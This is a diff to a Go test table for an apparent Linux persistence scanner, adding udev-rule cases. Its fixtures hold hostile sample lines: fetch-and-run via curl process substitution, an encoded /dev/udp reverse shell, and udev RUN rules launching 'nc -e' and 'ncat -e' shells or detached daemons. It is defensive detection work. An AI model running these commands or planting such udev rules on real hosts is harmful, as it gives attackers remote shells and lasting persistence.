@@ -158,6 +158,12 @@ func TestShellBehaviour(t *testing.T) {
 		{name: "process substitution", path: "/usr/local/bin/upd", text: "#!/bin/bash\nbash <(curl -fsSL http://198.51.100.7:8080/s.sh)\n", want: []string{RuleFetchRun}},
 		{name: "process substitution decoded", path: "/opt/ps.sh", text: "#!/bin/bash\nsource <(echo " + b64("sh -i >& /dev/udp/203.0.113.9/53 0>&1") + " | base64 -d)\n", want: []string{RuleDevTCP, RuleDecodeRun}},
 
+		// A udev rule that leaves its program running: udev kills what RUN leaves behind.
+		{name: "udev background daemon", path: "/etc/udev/rules.d/99-opt.rules", text: "ACTION==\"add|remove|change\", SUBSYSTEM==\"*\", RUN+=\"/bin/bash -c 'exec /opt/agent/mutatd &'\"\n", want: []string{RuleUdevDaemon}},
+		{name: "udev systemd-run", path: "/lib/udev/rules.d/60-x.rules", text: "ACTION==\"add\", SUBSYSTEM==\"usb\", RUN+=\"/usr/bin/systemd-run --unit=helper /opt/helper\"\n", want: []string{RuleUdevDaemon}},
+		{name: "udev at now", path: "/etc/udev/rules.d/70-net.rules", text: "SUBSYSTEM==\"net\", ACTION==\"add\", RUN+=\"/bin/sh -c 'echo /usr/local/bin/sync | at now'\"\n", want: []string{RuleUdevDaemon}},
+		{name: "udev RUN{program}", path: "/etc/udev/rules.d/71-x.rules", text: "ACTION==\"add\", RUN{program}+=\"/usr/bin/nc -e /bin/sh 203.0.113.9 4444\"\n", want: []string{RuleNetExec}, label: audit.CategoryPersistence},
+		{name: "udev rules of the system's kind", path: "/lib/udev/rules.d/80-x.rules", text: "SUBSYSTEM==\"input\", RUN+=\"/usr/bin/systemctl --no-block start x.service\"\nACTION==\"add\", KERNEL==\"sd*\", RUN+=\"/bin/sh -c 'echo 180 > /sys$devpath/device/timeout'\"\nSUBSYSTEM==\"net\", RUN+=\"/lib/udev/net.agent\"\n"},
 		// udev values quote a quote with a backslash.
 		{name: "udev escaped quotes", path: "/etc/udev/rules.d/70-usb.rules", text: "ACTION==\"add\", SUBSYSTEM==\"usb\", RUN+=\"ncat 203.0.113.9 4444 -e \\\"/bin/bash -c id;/bin/bash\\\" 2>/dev/null\"\n", want: []string{RuleNetExec}, label: audit.CategoryPersistence},
 
